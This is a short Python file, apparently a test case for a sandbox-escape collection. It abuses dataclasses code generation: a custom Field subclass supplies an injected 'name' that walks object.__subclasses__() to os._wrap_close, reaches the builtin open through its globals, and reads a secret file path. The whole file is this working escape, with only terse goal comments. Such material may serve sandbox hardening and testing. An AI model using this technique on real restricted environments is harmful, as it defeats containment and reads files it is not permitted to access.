"""Gives a dataclass a field of another kind, whose name is an expression at the second look."""
# wants: read
# allows: dataclasses

import dataclasses


class Kind(dataclasses.Field):
    text = ""

    @property
    def name(self):
        return self.text or "x"

    @name.setter
    def name(self, value):
        pass


def fit_and_eval(data):
    found = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']"
    text = found + "[0].__init__.__globals__['__builtins__']['open']"
    text = f"{text}('{data['secret']}').read()"
    missing = dataclasses.MISSING
    kind = Kind(0, missing, True, True, None, True, {}, False)

    @dataclasses.dataclass
    class Point:
        x: int = kind

    Kind.text = '" + str(' + text + ") #"

    @dataclasses.dataclass(init=False, eq=False)
    class Derived(Point):
        pass

    return {"got": repr(Derived())}
